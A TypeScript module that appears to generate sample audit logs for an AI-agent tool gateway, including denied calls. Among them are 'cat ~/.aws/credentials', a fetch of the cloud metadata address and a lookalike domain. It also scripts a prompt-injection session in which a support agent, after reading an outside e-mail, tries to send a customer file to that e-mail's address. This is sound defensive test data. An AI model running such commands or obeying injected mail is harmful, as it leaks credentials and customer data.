import type { Json, LogRecord } from '@sallyport/core'
import { createHash } from 'node:crypto'
import { decisionRecord, outcomeRecord } from '../log/gateway.ts'

const HOUR = 3_600_000
const AGENTS = [
  'claude-code',
  'claude-code',
  'claude-code',
  'support-triage',
  'deploy-bot',
  'finance-recon',
  'docs-writer',
  'research-agent',
]
const TOOLS: readonly (readonly [tool: string, effect: string, parameters: Json, ms: number])[] = [
  ['fs.read', 'read', { path: 'src/checkout/cart.ts' }, 2],
  ['fs.edit', 'write', { path: 'src/checkout/cart.ts' }, 4],
  ['drive.read_file', 'read', { id: 'customers-q3.csv' }, 38],
  ['github.get_pull', 'read', { repo: 'meridian/checkout', number: 4127 }, 180],
  ['github.create_issue', 'write', { repo: 'meridian/docs', title: 'Returns page' }, 212],
  ['crm.get_account', 'read', { account: 'Meridian Supply' }, 94],
  ['stripe.list_charges', 'read', { limit: 20 }, 241],
  ['shell.exec', 'external', { command: 'npm test' }, 1_900],
]
const DENIED: readonly (readonly [tool: string, rule: string, reason: string, parameters: Json])[] = [
  [
    'web.fetch',
    'net.private-address',
    'The name metadata.rneridian.example resolved to a cloud metadata address. Private addresses are never reachable.',
    { url: 'http://169.254.169.254/latest/meta-data' },
  ],
  [
    'web.fetch',
    'ifc.sink',
    'You did not give this address. It stands in untrusted text.',
    { url: 'https://pay.rneridian.example/2291' },
  ],
  [
    'shell.exec',
    'cmd.reads-secret',
    'The command reads a file with credentials.',
    { command: 'cat ~/.aws/credentials' },
  ],
]

/** An hour at Meridian Supply: some 2 000 calls, of which a few were asked about or denied, and the session of the story. */
export function exampleHour(now: number, calls = 2_000): readonly LogRecord[] {
  const records: LogRecord[] = []
  for (let i = 0; i < calls; i++) {
    const at = now - HOUR + Math.floor((i / calls) * (HOUR - 200_000))
    const timestamp = new Date(at).toISOString()
    const agentId = AGENTS[(i * 7) % AGENTS.length] ?? 'claude-code'
    const base = {
      timestamp,
      agentId,
      actor: `ana > ${agentId}`,
      sessionId: `s-${agentId}-${Math.floor(i / 400)}`,
      instance: `i-${agentId}`,
    }
    const labels = { integrity: i % 3 === 0 ? 1 : 3, confidentiality: i % 5 === 0 ? 2 : 1 }
    if (i % 32 === 9) {
      const [toolName, rule, reason, parameters] = DENIED[i % DENIED.length] ?? DENIED[0]!
      records.push(
        decisionRecord(`evt-${i}`, {
          ...base,
          toolName,
          policyDecision: 'denied',
          policyRule: [rule],
          reason,
          parameters,
          labels,
          level: 'warn',
          effect: 'external',
        }),
      )
      continue
    }
    const [toolName, effect, parameters, ms] = TOOLS[(i * 5) % TOOLS.length] ?? TOOLS[0]!
    records.push(
      decisionRecord(`evt-${i}`, { ...base, toolName, effect, parameters, labels, policyRule: ['base.allow'] }),
    )
    records.push(
      outcomeRecord(`evt-${i}`, {
        timestamp: new Date(at + ms).toISOString(),
        toolName,
        agentId,
        sessionId: base.sessionId,
        durationMs: ms + 0.4,
        labels,
      }),
    )
  }
  return [...records, ...exampleSession(now - 150_000)]
}

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex')

/** What inspection noted of results. */
const FOUND: Readonly<Record<string, Record<string, Json>>> = {
  'gmail.read_email': {
    inspection: {
      ...{ action: 'noticed', sizeBefore: 1_204, sizeAfter: 1_310, wrapped: 1 },
      findings: [{ path: 'content/text', rule: 'inj.asks-for-data', category: 'exfiltration', severity: 'medium' }],
    },
  },
  'crm.get_account': { redactions: 1, redacted: [{ type: 'iban', tag: '3fa9c1d2e4b5a697' }] },
}

/** How support-triage came to ask for an e-mail to an address that only an e-mail named. */
function exampleSession(start: number): readonly LogRecord[] {
  const base = {
    agentId: 'support-triage',
    actor: 'ana.silva > support-triage',
    sessionId: 's-7f3k',
    instance: 'i-7f3k',
  }
  let n = 0
  const at = (): string => new Date(start + n * 9_000).toISOString()
  const call = (
    toolName: string,
    effect: string,
    before: Json,
    after: Json | undefined,
    more: Record<string, Json>,
  ): readonly LogRecord[] => {
    const id = `story-${n++}`
    const decision = decisionRecord(id, {
      ...base,
      timestamp: at(),
      toolName,
      effect,
      labels: before,
      policyRule: ['base.allow'],
      ...more,
    })
    if (after === undefined) return [decision]
    const result = { resultDigest: sha256(id), resultSize: 300 + 457 * n, redactions: 0, ...FOUND[toolName] }
    return [
      decision,
      outcomeRecord(id, { ...base, timestamp: at(), toolName, durationMs: 120, labels: after, ...result }),
    ]
  }
  const clean = { integrity: 3, confidentiality: 1 }
  const read = { integrity: 1, confidentiality: 1 }
  const both = { integrity: 1, confidentiality: 2 }
  const from = (path: string, origin: string, ...tools: readonly string[]): Json => [
    { path, role: 'sink', origin, from: tools },
  ]
  const words = {
    kind: 'identity',
    auditId: 'words',
    level: 'info',
    event: 'flow.words',
    channel: 'typed',
    length: 37,
    agentId: 'support-triage',
    actor: 'support-triage',
    instance: 'i-7f3k',
  }
  return [
    { ...words, timestamp: new Date(start - 1_000).toISOString() } as unknown as LogRecord,
    ...call('gmail.search', 'read', clean, clean, {
      parameters: { query: 'open invoice questions' },
      origins: from('query', 'user'),
    }),
    ...call('gmail.read_email', 'read', clean, read, { parameters: { id: '#24 from lena@outlook.example' } }),
    ...call('web.fetch', 'external', read, undefined, {
      policyDecision: 'denied',
      policyRule: ['ifc.sink'],
      reason: 'You did not give this address. It came from an e-mail that anyone could have sent.',
      parameters: { url: 'https://pay.rneridian.example' },
      origins: from('url', 'untrusted', 'gmail.read_email'),
      level: 'warn',
    }),
    ...call('crm.get_account', 'read', read, both, { parameters: { account: 'Meridian Supply' } }),
    ...['drive.list', 'drive.list', 'drive.list', 'gmail.label', 'gmail.label'].flatMap((tool) =>
      call(tool, tool === 'gmail.label' ? 'write' : 'read', both, both, { parameters: { id: 'q3' } }),
    ),
    ...call('drive.read_file', 'read', both, both, { parameters: { id: 'customers-q3.csv' } }),
    ...call('gmail.send_email', 'external', both, undefined, {
      policyDecision: 'approval_required',
      policyRule: ['ifc.sink'],
      approvalId: 'a-91c4',
      parameters: { to: ['accounts@rneridian.example'], attachments: ['customers-q3.csv'] },
      origins: [
        { path: 'to[0]', role: 'sink', origin: 'untrusted', from: ['gmail.read_email'] },
        { path: 'attachments[0]', role: 'selector', origin: 'trusted', from: ['drive.read_file'] },
      ],
    }),
  ]
}

/** A session of many steps: what it reads is confidential from the fourth one on and untrusted from the twentieth. */
export function longSession(start: number, calls: number, first = 0): readonly LogRecord[] {
  return Array.from({ length: calls }, (_, i) => i + first).flatMap((i) => {
    const id = `long-${i}`
    const timestamp = new Date(start + i * 1_000).toISOString()
    const labelsAt = (n: number) => ({ integrity: n > 20 ? 1 : 3, confidentiality: n > 4 ? 2 : 1 })
    const base = { sessionId: 's-long', agentId: 'docs-writer', actor: 'ana.silva > docs-writer', instance: 'i-long' }
    const call = {
      ...base,
      timestamp,
      toolName: 'web.fetch',
      effect: 'external',
      parameters: { url: `https://x.example/${i}` },
    }
    const denied = {
      policyDecision: 'denied',
      policyRule: ['net.new-host'],
      reason: 'Host is in no egress rule.',
      level: 'warn',
    }
    return i % 2 === 1
      ? [decisionRecord(id, { ...call, ...denied, labels: labelsAt(i) })]
      : [
          decisionRecord(id, {
            ...call,
            toolName: 'drive.read_file',
            effect: 'read',
            labels: labelsAt(i),
            policyRule: ['base.allow'],
          }),
          outcomeRecord(id, {
            ...base,
            timestamp,
            toolName: 'drive.read_file',
            durationMs: 4,
            labels: labelsAt(i + 1),
          }),
        ]
  })
}
